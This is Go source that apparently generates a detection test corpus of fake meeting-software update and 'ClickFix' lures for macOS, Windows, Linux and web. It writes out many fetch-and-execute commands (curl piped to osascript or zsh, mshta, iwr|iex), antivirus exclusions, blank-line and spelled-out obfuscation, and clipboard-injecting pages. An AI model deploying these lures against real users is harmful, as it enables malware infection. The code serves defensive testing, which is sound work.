package specimens

import (
	"fmt"
	"strings"
)

// campaigns makes lures in the shapes that reports describe.
func (b *kit) campaigns() {
	b.paddedUpdate()
	b.joinedTeams()
	b.namesOfReports()
	b.longPadding()
	b.audioRepair()
	b.compiled()
	b.clickFixWindows()
	b.driverFix()
	b.commandFiles()
	b.exclusions()
}

// upgradeNotes is the decoy at the top of an AppleScript lure.
func upgradeNotes(product string) string {
	return lines(
		"-- "+product+" SDK Update",
		"-- ",
		"-- Your "+product+" SDK is out of date and is no longer supported.",
		"-- To keep audio and video working in your meeting:",
		"--   1. Press the Run button at the top of this window.",
		"--   2. Wait until the update is complete.",
		"-- Do not close this window while the update is running.",
	)
}

// stage is a cascade of the kind "fetch and let osascript run it".
func stage(h, path, agent string) string {
	return "curl -fsSL -A " + agent + " https://" + h + path + " | osascript"
}

// paddedUpdate is family A1: notes, blank lines, the call of the real
// softwareupdate, and a cascade of fetches.
func (b *kit) paddedUpdate() {
	for i, product := range []string{"Zoom", "Microsoft Teams", "Webex"} {
		h := host(fmt.Sprintf("check%02did", i+2))
		for _, pad := range paddings {
			cmd := stage(h, fmt.Sprintf("/fix/mac/update/version/%d", 18000+i), fmt.Sprintf("mac-cur%d", i+1))
			text := upgradeNotes(product) + pad.text("--") + lines(
				`do shell script "softwareupdate --evaluate-products --x"`,
				"do shell script "+appleText(cmd),
			)
			b.script("A1", "macos", "applescript", pad.name, product+" SDK Update.scpt", text)
		}
	}
	for _, enc := range []struct {
		name, mark string
		encode     func(string) []byte
	}{{"UTF-16LE", "\xff\xfe", utf16le}, {"UTF-16BE", "\xfe\xff", utf16be}} {
		text := upgradeNotes("Zoom") + strings.Repeat("\n", 300) + "do shell script " + appleText(stage(host("check04id"), "/fix/mac/update/version/7", "mac-cur3")) + "\n"
		b.script("A1", "macos", "applescript", "blank lines "+enc.name, "Zoom SDK Update.scpt", enc.mark+string(enc.encode(text)), text)
	}
}

// joinedTeams is family A2: a plain text AppleScript with every string spelled
// out, which compiles what it fetched and loads it.
func (b *kit) joinedTeams() {
	spell := func(s string) string {
		return each(s, "&", func(r rune) string { return appleText(string(r)) })
	}
	for i, gap := range []int{0, 12, 50, 180} {
		fetch := "curl -f -s -S -L -k https://" + host(fmt.Sprintf("updatesdk%d.ms-teams", i)) + "/upd/8f3a91 -o /tmp/MSTeamsUpdater.scpt && osacompile -o /tmp/MSTeamsUpdater.scpt /tmp/MSTeamsUpdater.scpt"
		open := "open -g https://learn.microsoft.com/microsoftteams/"
		text := lines(
			strings.Repeat("#", 64),
			"# Microsoft Teams SDK Support",
			"# The installed Teams SDK is deprecated. Press the ▶ button to update it.",
			strings.Repeat("#", 64),
		) + strings.Repeat("\n", gap) + lines(
			"try",
			"	do shell script "+spell(open),
			"	do shell script "+spell(fetch),
			"	run (load script (POSIX file ("+spell("/tmp/MSTeamsUpdater.scpt")+")))",
			"	do shell script "+spell("rm /tmp/MSTeamsUpdater.scpt"),
			"on error errText",
			"	return",
			"end try",
		)
		b.script("A2", "macos", "applescript", "characters joined", []string{"MSTeamsUpdate.scpt", "MSTeams SDK Update.scpt", "Microsoft.TeamsSDK.scpt", "TeamsUpdate.applescript"}[i], text, open, fetch)
	}
}

// namesOfReports is family A3: the names seen in hunting, document names
// included, with every way to hide the command.
func (b *kit) namesOfReports() {
	names := []string{"MSTeamsUpdate.scpt", "Zoom SDK Update.scpt", "Microsoft.TeamsSDK.scpt", "Packages.scpt", "InstallSoftZone.scpt", "Q3 Budget.docx.scpt",
		"Investor Deck.pptx.scpt", "Interview Questions.pdf.scpt", "Zoom Meeting Notes.docx.scpt"}
	for i, hide := range appleHidings {
		cmd := fmt.Sprintf("curl -s https://%s/kit/%d -o /tmp/.kit && sh /tmp/.kit", host(fmt.Sprintf("uk%02dwebzoom", i+4)), i)
		text := lines(
			strings.Repeat("#", 80),
			"# Opening the document needs an update of the viewer component.",
			"# Press Run (Command-R) to install the update and continue.",
			strings.Repeat("#", 80), "",
		) + hide.hide(cmd) + "\n"
		b.script("A3", "macos", "applescript", hide.name, names[i%len(names)], text, cmd)
	}
}

// longPadding is family A4: more than ten thousand blank lines.
func (b *kit) longPadding() {
	for i, name := range []string{"zoom_sdk_support.scpt", "zoom_sdk_support (1).scpt", "zoom-sdk-support.applescript"} {
		text := lines("-- Zoom SDK support", "-- Thank you for testing the Zoom SDK. Run this script to update it.") +
			strings.Repeat("\n", 10200+i*100) +
			`run script (do shell script "curl -s https://` + host("support.us05web-zoom") + `/1234/check")` + "\n"
		b.script("A4", "macos", "applescript", "blank lines 10000", name, text)
	}
}

// audioRepair is families A5 and A6: the "extension" or "repair" that is handed
// over when the victim cannot be heard.
func (b *kit) audioRepair() {
	topics := []struct{ family, name, head string }{
		{"A5", "zoom_extension.scpt", "Zoom extension: enables the microphone in calls with many participants."},
		{"A5", "Zoom Audio Extension.applescript", "Zoom audio extension for macOS. Your microphone could not be unmuted."},
		{"A6", "Zoom Audio Repair Tool.scpt", "Zoom audio repair tool. This script fixes audio problems in Zoom meetings."},
		{"A6", "zoom_audio_fix.command", "Zoom audio repair tool: repairs the audio driver used by the Zoom client."},
		{"A6", "AudioFix.sh", "Repairs the audio driver for video calls."},
	}
	for i, t := range topics {
		fetch := fmt.Sprintf("curl -s -A cur1-agent https://%s/audio/%d", host(fmt.Sprintf("web%02d1zoom", 7+i)), i)
		for _, gap := range []int{0, 90} {
			obf := "plain"
			if gap > 0 {
				obf = "blank lines 90"
			}
			if strings.HasSuffix(t.name, ".command") || strings.HasSuffix(t.name, ".sh") {
				text := lines("#!/bin/zsh", "# "+t.head, `echo "Checking audio devices..."`, "sleep 1", `echo "Repairing audio driver..."`) +
					strings.Repeat("\n", gap) + fetch + " | zsh\n" + `echo "Done. Please rejoin the meeting."` + "\n"
				b.script(t.family, "macos", "shell", obf, t.name, text)
				continue
			}
			text := lines("(*", t.head, "Click the Run button. The call reconnects when the repair is done.", "*)") + strings.Repeat("\n", gap) +
				lines("do shell script "+appleText(fetch+" -o /tmp/.a && zsh /tmp/.a > /dev/null 2>&1 &"), `display dialog "Audio has been repaired. Please rejoin the meeting." buttons {"OK"}`)
			b.script(t.family, "macos", "applescript", obf, t.name, text)
		}
	}
}

// clickFixWindows is family A7: what the page on Windows has the victim start.
func (b *kit) clickFixWindows() {
	for i, hide := range batchHidings {
		cmd := "mshta https://" + host(fmt.Sprintf("zoom-sdk%d", i)) + "/fix-audio"
		text := "@echo off\r\ntitle Zoom SDK Update\r\necho Updating Zoom audio component, please wait...\r\n" + hide.hide(cmd) + "\r\nexit\r\n"
		b.script("A7", "windows", "batch", hide.name, []string{"ZoomSDKUpdate.bat", "Zoom_SDK_Update.cmd", "TeamsSDKFix.bat", "AudioFix.bat"}[i], text, cmd)
	}
	for i, hide := range powerHidings {
		cmd := "Invoke-Expression (Invoke-WebRequest -UseBasicParsing https://" + host(fmt.Sprintf("teams-sdk%d", i)) + "/w/fix).Content"
		text := "# Microsoft Teams SDK repair\r\n# Your client is missing an SDK component. Running this script restores audio and video.\r\n" +
			"Write-Host 'Repairing Microsoft Teams SDK ...'\r\n" + hide.hide(cmd) + "\r\n"
		b.script("A7", "windows", "powershell", hide.name, []string{"TeamsSDKUpdate.ps1", "ZoomSDKRepair.ps1", "fix-audio.ps1"}[i%3], text, cmd)
	}
}

// driverFix is family B: the camera or driver fix of a fake interview.
func (b *kit) driverFix() {
	shell := []string{"ffmpeg.sh", "drivfixer.sh", "camera_driver_update.sh", "mac-v-j1722.fixer.sh", "vcamservice.command"}
	for i, name := range shell {
		h := host(fmt.Sprintf("api%d.camera-drive", i))
		b.script("B", "macos", "shell", "plain", name, lines(
			"#!/bin/bash",
			"# Camera driver update",
			`ARCH=$(uname -m)`,
			`if [ "$ARCH" = "arm64" ]; then F=VCam1.update; else F=VCam2.update; fi`,
			`ZIP=/var/tmp/VCam.zip`,
			`DIR=/var/tmp/VCam`,
			`echo "Updating camera driver..."`,
			`curl -k -s -o "$ZIP" "https://`+h+`/$F" && unzip -o -qq "$ZIP" -d "$DIR" && chmod +x "$DIR/vcamservice.sh" && nohup "$DIR/vcamservice.sh" >/dev/null 2>&1 &`,
			`echo "Camera driver updated. You can go back to the interview."`,
		))
	}
	for i, name := range []string{"ClickFix-1.bat", "nvidia_update.bat", "camera-fix.cmd"} {
		h := host(fmt.Sprintf("api%d.nvidia-cloud", i))
		b.script("B", "windows", "batch", "plain", name, "@echo off\r\nrem camera driver update\r\n"+
			`curl -k -o "%TEMP%\nvidiaRelease.zip" https://`+h+`/nvidia-r.update && powershell -Command "Expand-Archive -Force -Path '%TEMP%\nvidiaRelease.zip' -DestinationPath '%TEMP%\nvidiaRelease'" && wscript "%TEMP%\nvidiaRelease\update.vbs"`+"\r\n")
	}
	for i, hide := range vbHidings {
		cmd := "cmd /c curl -s -o %TEMP%\\drvUpdate.exe https://" + host(fmt.Sprintf("drv%d", i)) + "/d && %TEMP%\\drvUpdate.exe"
		b.script("B", "windows", "vbscript", hide.name, []string{"update.vbs", "run.vbs", "camera_driver.vbs", "fixdriver.vbs", "nvidia.vbs"}[i],
			"' camera driver update\r\nSet sh = CreateObject(\"WScript.Shell\")\r\nsh.Run "+hide.hide(cmd)+", 0, False\r\n", cmd)
	}
	b.script("B", "linux", "shell", "plain", "camera-fix-linux.sh", lines(
		"#!/usr/bin/env bash", "# fixes the camera for the video interview", `echo "Detecting camera..."`,
		"wget -q --no-check-certificate -O /tmp/.cam.tar.gz https://"+host("linux.camera-drive")+"/l.tgz && tar -xzf /tmp/.cam.tar.gz -C /tmp && bash /tmp/cam/start.sh &",
		`echo "Camera is ready."`))
}

// commandFiles is family C: the command of a fake Meet page, saved as a file.
func (b *kit) commandFiles() {
	for i, name := range []string{"fix-error.bat", "Google Meet Fix.cmd", "meet_microphone_fix.bat"} {
		b.script("C", "windows", "batch", "plain", name, "mshta https://"+host(fmt.Sprintf("googiedrivers%d", i))+"/fix-error\r\n")
	}
	for i, name := range []string{"Google Meet Microphone Fix.command", "meet-fix.sh"} {
		b.script("C", "macos", "shell", "plain", name, lines("#!/bin/zsh", "# Google Meet: microphone access is blocked. This restores it.",
			"curl -sL https://"+host(fmt.Sprintf("meet.google.us-join%d", i))+"/fix | zsh"))
	}
	for i, cmd := range []string{
		"mshta https://" + host("meet.googie-join") + "/fix",
		"powershell -w hidden -c \"iwr https://" + host("web05-zoom") + "/m | iex\"",
		"curl -s https://" + host("webroom-zoom") + "/mac | bash",
	} {
		b.script("C", "web", "html", "plain", []string{"meet.html", "join-zoom.html", "zoom-webinar.htm"}[i], lines(
			"<!doctype html><html><head><title>Join the meeting</title></head><body>",
			"<h1>Can't access your microphone</h1>",
			"<p>Your headset is blocked. To fix it: press Windows + R (on a Mac open Terminal), press Ctrl + V, press Enter.</p>",
			`<button onclick="fix()">Try fix</button>`,
			"<script>function fix(){ navigator.clipboard.writeText("+jsText(cmd)+"); }</script>",
			"</body></html>"))
	}
}

// exclusions is families E and G: exclusions for the virus scanner, then a
// fetch, then the real product as a decoy.
func (b *kit) exclusions() {
	for i, brand := range []string{"Zoom", "Teams", "Webex", "AnyMeeting"} {
		h := host(fmt.Sprintf("dl%d", i))
		b.script("E/G", "windows", "batch", "plain", brand+"Installer.bat", "@echo off\r\n"+
			"powershell -WindowStyle Hidden -Command \"Add-MpPreference -ExclusionPath '%TEMP%\\inert-"+strings.ToLower(brand)+"'\"\r\n"+
			"curl -s -o %TEMP%\\inert-"+strings.ToLower(brand)+"\\setup.exe https://"+h+"/setup.exe\r\n"+
			"start \"\" %TEMP%\\inert-"+strings.ToLower(brand)+"\\setup.exe\r\n"+
			"start https://zoom.us/download\r\n")
		b.script("E/G", "windows", "powershell", "plain", brand+"Setup.ps1",
			"$d = Join-Path $env:TEMP 'inert-"+strings.ToLower(brand)+"'\r\nAdd-MpPreference -ExclusionPath $d -Force\r\n"+
				"(New-Object Net.WebClient).DownloadFile('https://"+h+"/i.exe', \"$d\\i.exe\")\r\nattrib +s +h $d\r\nStart-Process \"$d\\i.exe\" -WindowStyle Hidden\r\n")
	}
}

// compiled is A1 and A3 as compiled scripts. Only the records that matter to
// an observer are there: osacompile would write more around them.
func (b *kit) compiled() {
	cases := []struct {
		name, note string
		blanks     int
		calls      []string
	}{
		{"Zoom SDK Update.scpt", "Zoom SDK Update. This version is deprecated. Press Run to upgrade.", 120, []string{"curl -fsSL https://" + host("check05id") + "/fix/mac/update/version/1 | osascript"}},
		{"Zoom SDK Update.scpt", "Zoom SDK Update. This version is deprecated. Press Run to upgrade.", 3000, []string{"curl -fsSL https://" + host("check06id") + "/fix | sh"}},
		{"MSTeamsUpdate.scpt", "Microsoft Teams SDK Support: the SDK is out of date.", 0, []string{"curl -k -s https://" + host("support.ms-live") + "/t -o /tmp/t.scpt && osascript /tmp/t.scpt"}},
		{"Packages.scpt", "Installs the required packages.", 60, []string{"curl -s https://" + host("pkgs") + "/p | zsh"}},
		{"Webex Update.scpt", "Webex audio update", 40, []string{"softwareupdate --x", "curl -s https://" + host("webex-upd") + "/1 | osascript"}},
	}
	for _, c := range cases {
		var f fasd
		f.begin()
		f.comment(" " + c.note)
		f.blank(c.blanks)
		for _, call := range c.calls {
			f.call("sysoexec")
			f.text(call)
		}
		f.end()
		s := Specimen{Name: c.name, Family: "A1", Platform: "macos", Wrapper: "plain", Obfuscation: "compiled", Language: "applescript", Data: f.data, Mode: 0o644, clear: c.calls}
		b.list = append(b.list, s)
	}
	var f fasd // every string of the command is spelled out
	cmd := "curl -s https://" + host("ms-room") + "/c | osascript"
	f.begin()
	f.comment(" Microsoft Teams SDK Support")
	f.call("sysoexec")
	for _, r := range cmd {
		f.text(string(r))
	}
	f.end()
	b.list = append(b.list, Specimen{Name: "TeamsSDK.scpt", Family: "A2", Platform: "macos", Wrapper: "plain", Obfuscation: "compiled, characters joined", Language: "applescript", Data: f.data, Mode: 0o644, clear: []string{cmd}})
}
